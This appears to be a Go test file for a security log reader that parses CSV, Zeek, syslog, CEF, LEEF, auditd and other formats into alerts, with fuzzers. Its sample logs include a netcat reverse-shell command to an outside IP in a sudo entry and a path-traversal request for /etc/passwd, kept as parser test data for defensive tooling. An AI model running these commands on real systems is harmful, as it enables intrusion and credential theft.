package evidence_test

import (
	"bytes"
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"
	"pgregory.net/rapid"

	"github.com/casemate-ai/casemate"
	"github.com/casemate-ai/casemate/internal/security/evidence"
)

func TestTables(t *testing.T) {
	for _, tt := range []struct {
		name, text string
		want       []string // "line time severity host user name"
	}{
		{"plain", "time,name,ip,host,short,time_label,event_label\n1642213952,Wazuh: ClamAV database update,172.17.131.81,mail,W-Sys-Cav,false_positive,-\n",
			[]string{"2 2022-01-15T02:32:32Z unknown mail  Wazuh: ClamAV database update"}},
		{"quotes and semicolons", "sep=;\r\n\"Date\";\"Rule Name\";\"Severity\";\"Computer Name\";\"User\"\r\n\"8/7/2024 1:30:12 PM\";\"A; \"\"b\"\"\";\"High\";\"WS1\";\"bob\"\r\n",
			[]string{`3 2024-08-07T13:30:12Z high WS1 bob A; "b"`}},
		{"tabs", "timestamp\tsignature\tpriority\tsrc_ip\n2024-08-07T13:30:12Z\tET SCAN\t2\t10.0.0.1\n", []string{"2 2024-08-07T13:30:12Z medium 10.0.0.1  ET SCAN"}},
		{"bars and blank lines", "time|title|host\n\n1723037412|A|h1\n\n1723037412|B|h2", []string{"3 2024-08-07T13:30:12Z unknown h1  A", "5 2024-08-07T13:30:12Z unknown h2  B"}},
		{"line ends in quotes", "time,title,host\n1723037412,\"A\nB\r\nC\",h\n1723037412,D,h\n", []string{"2 2024-08-07T13:30:12Z unknown h  A\nB\r\nC", "5 2024-08-07T13:30:12Z unknown h  D"}},
		{"too many and too few cells", "time,title,host\n1723037412,A,h,x,y\n1723037412,B\n", []string{"2 2024-08-07T13:30:12Z unknown h  A", "3 2024-08-07T13:30:12Z unknown   B"}},
		{"splunk notables", "_time,search_name,rule_title,urgency,dest,user,security_domain\n2024-08-07T13:30:12.000+0000,R,Brute force,critical,web1,root,access\n", []string{"2 2024-08-07T13:30:12Z critical web1 root Brute force"}},
		{"windows events", "TimeCreated,EventID,Channel,Computer,Image,CommandLine\n2024-08-07T13:30:12Z,1,Microsoft-Windows-Sysmon/Operational,WS1,a.exe,a.exe -x\n", []string{"2 2024-08-07T13:30:12Z unknown WS1  Process created"}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			alerts, sum := from(t, "f", tt.text, options)
			var got []string
			for _, a := range alerts {
				_, line, _ := strings.Cut(a.At.String(), ":")
				got = append(got, line+" "+a.Time.Format("2006-01-02T15:04:05Z07:00")+" "+a.Severity.String()+" "+a.Host+" "+a.User+" "+a.Name)
			}
			if diff := cmp.Diff(tt.want, got); diff != "" || sum.FaultCount > 0 || sum.Files[0].Format != "csv" {
				t.Errorf("(-want +got):\n%s%+v", diff, sum)
			}
		})
	}
}

func TestTableFaults(t *testing.T) {
	alerts, sum := from(t, "f", "time,title,host\n1723037412,\"A,h\n1723037412,B,h\nlonely\n1723037412,C,h\n", options)
	if len(alerts) != 3 || sum.FaultCount != 2 || sum.Faults[0].At.Line != 2 || sum.Faults[1].At.Line != 4 {
		t.Errorf("%q, faults %v", list(alerts), sum.Faults)
	}
	if diff := cmp.Diff([]casemate.Field{{Name: "time", Value: "1723037412"}, {Name: "title", Value: "C"}, {Name: "host", Value: "h"}}, alerts[2].Fields); diff != "" {
		t.Errorf("fields (-want +got):\n%s", diff)
	}
}

// TestTableRoundTrip writes tables with encoding/csv and reads them back.
func TestTableRoundTrip(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		cell := rapid.StringMatching(`[a-z0-9 ,;"'|\n\t.é😀-]{0,12}`)
		rows := rapid.SliceOfN(rapid.SliceOfN(cell, 3, 3), 1, 8).Draw(t, "rows")
		var b bytes.Buffer
		w := csv.NewWriter(&b)
		for _, row := range append([][]string{{"title", "host", "message"}}, rows...) {
			if err := w.Write(row); err != nil {
				t.Fatal(err)
			}
		}
		w.Flush()
		var want, got [][]string
		for _, row := range rows {
			// What encoding/csv writes without quotes comes back as it is, but a
			// line that is all blank is none.
			if strings.TrimSpace(strings.Join(row, ",")) != "" {
				want = append(want, row)
			}
		}
		_, err := evidence.ReadFrom(t.Context(), &b, "f", options, func(a *casemate.Alert) error {
			var row []string
			for _, f := range a.Fields[:3] {
				row = append(row, f.Value)
			}
			got = append(got, row)
			return nil
		})
		if err != nil {
			t.Fatal(err)
		}
		if diff := cmp.Diff(want, got); diff != "" {
			t.Fatalf("(-want +got):\n%s", diff)
		}
	})
}

func TestZeek(t *testing.T) {
	text := "#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\tnotice\n#fields\tts\tuid\tid.orig_h\tid.resp_h\tnote\tmsg\tactions\n#types\ttime\tstring\taddr\taddr\tenum\tstring\tset[enum]\n" +
		"1723037412.000000\tC1\t10.0.0.7\t198.51.100.3\tScan::Port_Scan\tscanned\tNotice::ACTION_LOG,Notice::ACTION_EMAIL\n" +
		"#path\tdns\n#fields\tts\tuid\tid.orig_h\tid.resp_h\tquery\tqtype_name\tanswers\tAA\n#types\ttime\tstring\taddr\taddr\tstring\tstring\tvector[string]\tbool\n" +
		"1723037413.5\tC2\t10.0.0.7\t10.0.0.1\ta.example\tA\t-\tT\nbroken\n#close\t2024-08-07\n"
	alerts, sum := from(t, "f", text, options)
	if diff := cmp.Diff([]string{"f:8 zeek Scan::Port_Scan", "f:12 zeek dns"}, list(alerts)); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
	if sum.FaultCount != 1 || sum.Faults[0].At.Line != 13 || sum.Files[0].Format != "zeek-tsv" {
		t.Errorf("summary %+v", sum)
	}
	if a := alerts[0]; a.Kind != casemate.KindAlert || a.Host != "10.0.0.7" || a.Log.Service != "notice" || a.Time.Unix() != 1723037412 {
		t.Errorf("notice: %+v", a)
	}
	want := []casemate.Field{{Name: "_path", Value: "dns"}, {Name: "ts", Value: "1723037413.5", Kind: casemate.Number}, {Name: "uid", Value: "C2"}, {Name: "id.orig_h", Value: "10.0.0.7"}, {Name: "id.resp_h", Value: "10.0.0.1"},
		{Name: "query", Value: "a.example"}, {Name: "qtype_name", Value: "A"}, {Name: "answers", Kind: casemate.Null}, {Name: "AA", Value: "true", Kind: casemate.Bool}}
	if diff := cmp.Diff(want, alerts[1].Fields); diff != "" {
		t.Errorf("fields (-want +got):\n%s", diff)
	}
}

func TestText(t *testing.T) {
	for _, tt := range []struct {
		name, text string
		want       []string
		check      func(t *testing.T, a *casemate.Alert)
	}{
		{"sudo", "Aug  7 13:30:12 mail01 sudo:      bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/nc -e /bin/sh 203.0.113.9 4444\n", []string{"f:1 syslog-rfc3164 sudo"}, func(t *testing.T, a *casemate.Alert) {
			if a.Host != "mail01" || a.User != "bob" || a.Process == nil || a.Process.Image != "/usr/bin/nc" || a.Process.CommandLine != "/usr/bin/nc -e /bin/sh 203.0.113.9 4444" || a.Log != (casemate.Logsource{Product: "linux", Category: "process_creation", Service: "sudo"}) || a.Time.Year() != 2024 {
				t.Errorf("%+v", a)
			}
			if value(a.Event, "CommandLine") != a.Process.CommandLine || value(a.Event, "User") != "root" {
				t.Errorf("event %v", a.Event)
			}
		}},
		{"sshd in RFC 5424", "<38>1 2024-08-07T13:30:12Z web1 sshd 77 - - Accepted password for alice from 198.51.100.4 port 5 ssh2\n", []string{"f:1 syslog-rfc5424 ssh-login"}, func(t *testing.T, a *casemate.Alert) {
			if a.Log.Service != "sshd" || a.User != "alice" || a.Entities[len(a.Entities)-1] != (casemate.Entity{Type: casemate.EntityAddress, Value: "198.51.100.4", Role: casemate.RoleSource}) {
				t.Errorf("%+v", a)
			}
		}},
		{"suricata inside syslog", "Aug  7 13:30:12 ids suricata[1]: " + suricata + "\n", []string{"f:1 suricata-eve S1"}, func(t *testing.T, a *casemate.Alert) {
			if a.Kind != casemate.KindAlert {
				t.Errorf("%+v", a)
			}
		}},
		{"access log", `198.51.100.4 - - [07/Aug/2024:13:30:12 +0000] "GET /a.php?x=../../etc/passwd HTTP/1.1" 404 12 "-" "sqlmap/1.0"`, []string{"f:1 access-log HTTP GET 404"}, func(t *testing.T, a *casemate.Alert) {
			if a.Log.Category != "webserver" || value(a.Event, "cs-uri-query") != "x=../../etc/passwd" || value(a.Event, "cs-user-agent") != "sqlmap/1.0" || value(a.Event, "sc-status") != "404" {
				t.Errorf("%+v", a)
			}
		}},
		{"cef", "Aug  7 13:30:12 fw1 CEF:0|Acme|IPS|1.0|100|Worm stopped|9|src=10.0.0.1 dst=203.0.113.2 spt=1 dhost=web1 suser=bob act=blocked msg=stopped it\n", []string{"f:1 cef Worm stopped"}, func(t *testing.T, a *casemate.Alert) {
			if a.Kind != casemate.KindAlert || a.Severity != casemate.SeverityCritical || a.Rule != "100" || a.Host != "web1" || a.User != "bob" || a.Action != "blocked" || a.Log.Category != "firewall" {
				t.Errorf("%+v", a)
			}
		}},
		{"cef of mere traffic", "CEF:0|Acme|FW|1.0|1|TRAFFIC|1|src=10.0.0.1 dst=203.0.113.2\n", []string{"f:1 cef TRAFFIC"}, func(t *testing.T, a *casemate.Alert) {
			if a.Kind != casemate.KindEvent || a.Host != "10.0.0.1" {
				t.Errorf("%+v", a)
			}
		}},
		{"leef", "LEEF:1.0|Acme|EDR|1.0|MAL1|sev=8\tsrc=10.0.0.1\tdst=10.0.0.2\tusrName=eve\tcat=Malware\tdevTime=2024-08-07T13:30:12Z\n", []string{"f:1 leef Malware"}, func(t *testing.T, a *casemate.Alert) {
			if a.Severity != casemate.SeverityHigh || a.User != "eve" || a.Rule != "MAL1" || a.Time.IsZero() {
				t.Errorf("%+v", a)
			}
		}},
		{"auditd joined", "type=SYSCALL msg=audit(1604996384.965:93777): arch=c000003e syscall=59 success=yes ppid=29002 pid=2168 auid=1000 uid=1000 comm=\"dd\" exe=\"/bin/dd\" key=(null)\n" +
			"type=EXECVE msg=audit(1604996384.965:93777): argc=3 a0=\"dd\" a1=\"if=/dev/zero\" a2=\"bs=1\"\ntype=CWD msg=audit(1604996384.965:93777): cwd=\"/home/w\"\ntype=PROCTITLE msg=audit(1604996384.965:93777): proctitle=6464\n" +
			"type=USER_LOGIN msg=audit(1604996385.000:93778): pid=1 uid=0 msg='op=login acct=\"root\" exe=\"/usr/sbin/sshd\" addr=198.51.100.4 res=failed'\n", []string{"f:1 auditd EXECVE", "f:5 auditd USER_LOGIN"}, func(t *testing.T, a *casemate.Alert) {
			if a.Log != (casemate.Logsource{Product: "linux", Category: "process_creation", Service: "auditd"}) || a.Process.CommandLine != "dd if=/dev/zero bs=1" || a.Process.PID != "2168" || a.Process.ParentPID != "29002" || strings.Count(a.Raw, "\n") != 3 {
				t.Errorf("%+v %+v", a, a.Process)
			}
			if value(a.Event, "Image") != "/bin/dd" || value(a.Event, "type") != "SYSCALL" || value(a.Event, "CurrentDirectory") != "/home/w" {
				t.Errorf("event %v", a.Event)
			}
		}},
		{"key=value", `time=2024-08-07T13:30:12Z alertname="Port scan" severity=high srcip=10.0.0.1 dstip=203.0.113.2 user=bob` + "\n", []string{"f:1 key-value Port scan"}, func(t *testing.T, a *casemate.Alert) {
			if a.Kind != casemate.KindAlert || a.Severity != casemate.SeverityHigh || a.Host != "10.0.0.1" || a.User != "bob" {
				t.Errorf("%+v", a)
			}
		}},
		{"journald", `{"__REALTIME_TIMESTAMP":"1723037412000000","_HOSTNAME":"web1","SYSLOG_IDENTIFIER":"sshd","MESSAGE":"Failed password for root from 198.51.100.4 port 22 ssh2","_PID":"9"}`, []string{"f:1 journald ssh-login-failed"}, func(t *testing.T, a *casemate.Alert) {
			if a.Host != "web1" || a.User != "root" || a.Log.Service != "sshd" || a.Time.Unix() != 1723037412 {
				t.Errorf("%+v", a)
			}
		}},
		{"splunk raw", `{"preview":false,"result":{"_time":"2024-08-07","host":"h","sourcetype":"linux_secure","_raw":"Aug  7 13:30:12 web1 sshd[7]: Accepted password for root from 198.51.100.4 port 22 ssh2"}}`, []string{"f:1 syslog-rfc3164 ssh-login"}, func(t *testing.T, a *casemate.Alert) {
			if a.Host != "web1" || value(a.Fields, "sourcetype") != "linux_secure" {
				t.Errorf("%+v", a)
			}
		}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			alerts, sum := from(t, "f", tt.text, options)
			if diff := cmp.Diff(tt.want, list(alerts)); diff != "" || sum.FaultCount > 0 {
				t.Fatalf("(-want +got):\n%s%v", diff, sum.Faults)
			}
			tt.check(t, alerts[0])
		})
	}
}

func value(fields []casemate.Field, name string) string {
	for _, f := range fields {
		if f.Name == name {
			return f.Value
		}
	}
	return ""
}

// shared returns a file of the folder of shared data, or skips the test.
func shared(t testing.TB, name string) string {
	t.Helper()
	dir := os.Getenv("CASEMATE_SHARED")
	if dir == "" {
		dir = filepath.Join("..", "..", "..", "..", "shared")
	}
	path := filepath.Join(dir, filepath.FromSlash(name))
	if _, err := os.Stat(path); err != nil {
		t.Skipf("no shared data: %v", err)
	}
	return path
}

// TestRecorded reads recorded events of public data sets whole: what they hold
// was counted by other means (lines of the files, and another reader of EVTX).
func TestRecorded(t *testing.T) {
	for _, tt := range []struct {
		file    string
		records int
		want    map[string]int // Log.Category, at least so many
	}{
		{"data/alerts/otrf-atomic.zip", 22_541 + 100, map[string]int{"process_creation": 137, "process_access": 5_000, "registry_set": 2_000, "dns_query": 200, "ps_module": 150}},
		{"data/alerts/evtx-samples-dev.zip", 3_400, map[string]int{"process_creation": 500, "registry_set": 100, "network_connection": 60}},
		{"data/alerts/needle-medium_unlabelled.jsonl", 30, map[string]int{"process_creation": 30}},
	} {
		t.Run(tt.file, func(t *testing.T) {
			path := shared(t, tt.file)
			categories, undated, nowhere := map[string]int{}, 0, 0
			sum, err := evidence.Read(t.Context(), []string{path}, options, func(a *casemate.Alert) error {
				categories[a.Log.Category]++
				if a.Time.IsZero() {
					undated++
				}
				if a.Host == "" && a.Log.Product == "windows" {
					nowhere++
				}
				if !utf8.ValidString(a.Raw) || a.Name == "" || a.ID == "" {
					t.Errorf("%s: %+v", a.At, a)
				}
				return nil
			})
			if err != nil {
				t.Fatal(err)
			}
			if sum.Records < tt.records || undated > 0 || nowhere > 0 {
				t.Errorf("%d records, want %d; %d without a time, %d without a host", sum.Records, tt.records, undated, nowhere)
			}
			for category, n := range tt.want {
				if categories[category] < n {
					t.Errorf("%d events of %s, want %d", categories[category], category, n)
				}
			}
			for _, f := range sum.Faults {
				if !strings.Contains(f.At.File, ".cap") && !strings.Contains(f.At.File, ".pcap") && !strings.Contains(f.At.File, ".yaml") {
					t.Errorf("fault %s", f)
				}
			}
		})
	}
}

func FuzzReadFrom(f *testing.F) {
	for _, seed := range []string{
		suricata + "\n" + wazuh, "[" + trail + "," + wazuh + "]", `{"Records":[` + trail + `]}`, "{\n \"title\": \"A\"\n}", `{"hits":{"hits":[{"_source":{"a":1}}]}}`,
		"time,title,host\n1,\"a\nb\",c\n", "#separator \\x09\n#fields\tts\tuid\tid.orig_h\n1\t2\t3\n", "Aug  7 13:30:12 h sudo: a : USER=root ; COMMAND=x\n",
		"type=EXECVE msg=audit(1.2:3): argc=1 a0=\"x\"\n", "CEF:0|a|b|c|d|e|9|src=1.2.3.4\n", "ElfFile\x00", "\xff\xfe{\x00\"\x00", "\x1f\x8b\x08\x00", "PK\x03\x04", "sep=;\na;host\n",
		`{"EventID":1,"Channel":"x","EventData":"<Data Name='a'>b</Data>"}`, `{"AlertName":"x","AlertSeverity":"High","Entities":"[{\"Name\":\"a\",\"Type\":\"account\"}]"}`,
	} {
		f.Add([]byte(seed))
	}
	opt := options
	opt.MaxRecordBytes = 1 << 16
	f.Fuzz(func(t *testing.T, data []byte) {
		n := 0
		sum, err := evidence.ReadFrom(t.Context(), bytes.NewReader(data), "f", opt, func(a *casemate.Alert) error {
			n++
			if a.ID == "" || a.Name == "" || a.Format == "" || a.At.File == "" || !utf8.ValidString(a.Raw) || !a.Time.IsZero() && (a.Time.Year() < 1969 || a.Time.Year() > 9999) {
				t.Errorf("alert %+v", a)
			}
			return nil
		})
		if n != sum.Records || err == nil && n == 0 && sum.FaultCount > 0 || err != nil && n > 0 {
			t.Errorf("%d records, summary %+v, error %v", n, sum, err)
		}
	})
}

func FuzzTable(f *testing.F) {
	f.Add("time,title,host\n", "1,\"a\"\"b\",c\n")
	f.Add("sep=;\na;host\n", "\"x;y\"z;2\n\"")
	f.Add("title\thost\n", "\t\n\"\"\t\"\n")
	opt := options
	opt.Format = "csv"
	f.Fuzz(func(t *testing.T, header, rows string) {
		lines := strings.Count(header+rows, "\n") + 1
		sum, err := evidence.ReadFrom(t.Context(), strings.NewReader(header+rows), "f", opt, func(a *casemate.Alert) error {
			if a.At.Line < 1 || a.At.Line > lines {
				t.Errorf("%s is not in a file of %d lines", a.At, lines)
			}
			return nil
		})
		if err == nil && sum.Records > lines {
			t.Errorf("%d records of %d lines", sum.Records, lines)
		}
	})
}
